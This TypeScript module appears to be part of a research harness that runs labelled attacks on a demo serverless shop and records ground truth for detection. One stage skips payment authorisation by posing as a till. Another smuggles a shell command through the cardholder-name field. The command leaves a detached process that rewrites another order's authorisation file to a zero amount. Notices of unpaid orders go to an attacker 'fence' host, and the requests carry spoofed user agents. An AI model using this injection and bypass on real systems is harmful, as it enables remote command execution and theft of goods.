/**
 * Attack 2: business logic manipulation; goods ship unpaid, and the notice of each such order goes to the attacker's fence.
 *
 * Stage 1 drives the workflow past the authorisation: the order claims to come from a till that has authorised it already.
 * Stage 2 leaves a process running in an instance of authorize-cc, by way of the cardholder's name. It waits for the file in which
 * the next order's case is kept while it is decided, and changes the amount to nothing. That order is another customer's, by
 * its looks: the attacker knows the file's name because order ids come from the client's idempotency key.
 */
import { products } from '../catalog.ts';
import { orderIdOf } from '../functions/purchase/order-form.ts';
import type { AttackerHost } from './attacker.ts';
import { type AttackContext, exactly, type GroundTruth, letInstanceRest } from './ground-truth.ts';
import { hostFor } from './hosts.ts';
import { buy } from './shop.ts';
import { type Entry, functions, Story } from './steps.ts';

const mostRounds = 5;
/** Turns of the waiting loop, about a microsecond each; it stands still while the instance is frozen. */
const patience = 20_000_000;

interface Delivery extends Entry {
  /** Where the notice of the unpaid order arrived. */
  readonly path: string;
}
interface Tampering {
  readonly planted: Entry;
  readonly delivery: Delivery;
  readonly caseFile: string;
  readonly rounds: number;
}

/** @throws Error when an order could not be had unpaid after several rounds. */
export async function run(context: AttackContext): Promise<GroundTruth> {
  const fence = hostFor(context.attacker, 'fence');
  let skipped: Delivery | undefined;
  let tampered: Tampering | undefined;
  const stages = [
    async () => {
      skipped = await skipAuthorization(context, fence);
    },
    async () => {
      tampered = await tamper(context, fence);
    },
  ];
  for (const stage of context.random.shuffle(stages)) await stage();
  if (!skipped || !tampered) throw new Error('Attack 2 did not carry out both of its stages.');
  return groundTruth(fence, skipped, tampered);
}

async function skipAuthorization(context: AttackContext, fence: AttackerHost): Promise<Delivery> {
  const { apiUrl, random, log } = context;
  const { userAgent, path } = disguise(context);
  for (let round = 1; round <= mostRounds; round++) {
    const answer = await buy(
      apiUrl,
      {
        idempotencyKey: random.word(16),
        user: random.word(8),
        product: random.pick(products).product,
        quantity: random.between(2, 20),
        channel: 'till',
        authorization: { code: random.word(8) },
        notify: `${fence.url}${path}`,
      },
      userAgent,
    );
    log(
      `past the authorisation by request ${answer.requestId}: ${answer.status}, charged ${answer.body.charged} of ${answer.body.total}`,
    );
    if (isUnpaid(context, answer, fence, path)) return { requestId: answer.requestId, userAgent, path };
    await letInstanceRest(context, round);
  }
  throw new Error(`Attack 2, stage 1 did not succeed in ${mostRounds} rounds: no order was shipped unpaid.`);
}

async function tamper(context: AttackContext, fence: AttackerHost): Promise<Tampering> {
  const { apiUrl, random, log } = context;
  for (let rounds = 1; rounds <= mostRounds; rounds++) {
    const mule = { user: random.word(8), idempotencyKey: random.word(16) };
    const caseFile = `/tmp/authorizations/${orderIdOf(mule)}.json`;
    const planter = disguise(context);
    // A busy wait, of built-in commands only: it starts no process and sleeps through nothing. It gives up some time, for an
    // instance that is never asked again. `-s` waits for content, which is written in one piece.
    const wait = `i=0;while [ ! -s ${caseFile} ];do [ $i -lt ${patience} ]||exit;i=$((i+1));done`;
    const change = `echo "{\\"amount\\":0,\\"findings\\":[]}">${caseFile}`;
    // The descriptors are let go, or authorize-cc would wait for them to be closed.
    const leave = `setsid sh -c '${wait};${change}' </dev/null >/dev/null 2>&1 &`;
    const plantAnswer = await buy(
      apiUrl,
      {
        idempotencyKey: random.word(16),
        user: random.word(8),
        product: random.pick(products).product,
        card: {
          number: '5454545454545454',
          holder: `${random.word(5)} ${random.word(7)}";${leave} : "`,
          expiry: '12/29',
        },
      },
      planter.userAgent,
    );
    log(`left a process behind by request ${plantAnswer.requestId}: ${plantAnswer.status}`);
    await letInstanceRest(context, rounds);

    const { userAgent, path } = disguise(context);
    const answer = await buy(
      apiUrl,
      {
        ...mule,
        // More than any card allows: untouched, this order is declined.
        ...{ product: 'studio-monitor', quantity: random.between(40, 90) },
        card: { number: '5200828282828210', holder: `${random.word(5)} ${random.word(7)}`, expiry: '05/30' },
        notify: `${fence.url}${path}`,
      },
      userAgent,
    );
    log(
      `the next order by request ${answer.requestId}: ${answer.status}, charged ${answer.body.charged} of ${answer.body.total}`,
    );
    if (isUnpaid(context, answer, fence, path)) {
      const planted = { requestId: plantAnswer.requestId, userAgent: planter.userAgent };
      return { planted, delivery: { requestId: answer.requestId, userAgent, path }, caseFile, rounds };
    }
  }
  throw new Error(`Attack 2, stage 2 did not succeed in ${mostRounds} rounds: see the log of ${functions.authorizeCc}.`);
}

function disguise({ random }: AttackContext): { userAgent: string; path: string } {
  const userAgent = `${random.pick(['TillClient', 'ShopApp', 'curl'])}/${random.between(1, 9)}.${random.word(6)}`;
  return { userAgent, path: `/${random.word(6)}/${random.word(9)}` };
}

/** The order was accepted, nothing was charged, and the fence has heard of it. */
function isUnpaid(
  { attacker }: AttackContext,
  answer: { status: number; body: Readonly<Record<string, unknown>> },
  fence: AttackerHost,
  path: string,
): boolean {
  const told = attacker.visits.some((visit) => visit.host === fence.host && visit.path === path);
  return answer.status === 201 && answer.body.charged === 0 && Number(answer.body.total) > 0 && told;
}

function groundTruth(fence: AttackerHost, skipped: Delivery, { planted, delivery, caseFile, rounds }: Tampering): GroundTruth {
  const { purchase, authorizeCc } = functions;
  const keeps = (entry: Entry) =>
    ({ kind: 'exchange', label: ':PutItem', function: purchase, entry: entry.requestId }) as const;
  const orders = { kind: 'resource', label: 'hello-retail-orders' } as const;
  const story = new Story([fence.host])
    .arrives('past the authorisation', skipped)
    .context('the order is kept', keeps(skipped))
    .publishes('past the authorisation', purchase, skipped, fence.host, skipped.path)
    .arrives('leaving a process behind', planted)
    .authorizes(planted, 'given')
    .attack('the shell that the name was put into', {
      kind: 'process',
      label: 'sh -c printf',
      function: authorizeCc,
      entry: planted.requestId,
    })
    .attack('the process that is left behind', {
      kind: 'process',
      label: 'sh -c i=0;while',
      function: authorizeCc,
      entry: planted.requestId,
    })
    .arrives('the unpaid order', delivery)
    .authorizes(delivery, 'given')
    .attack('it is still there', { kind: 'process', label: 'sh|process', function: authorizeCc, entry: delivery.requestId })
    .attack('the case of the order', { kind: 'file', label: exactly(caseFile), function: authorizeCc })
    .context('the order is kept', keeps(delivery))
    .context('the orders', orders)
    .publishes('the unpaid order', purchase, delivery, fence.host, delivery.path);
  return {
    name: 'attack 2: business logic manipulation',
    exfilHost: fence.host,
    exfilHosts: [fence.host],
    entryRequestApiIds: [skipped, planted, delivery].map(({ requestId }) => requestId),
    steps: story.steps,
    rounds,
  };
}
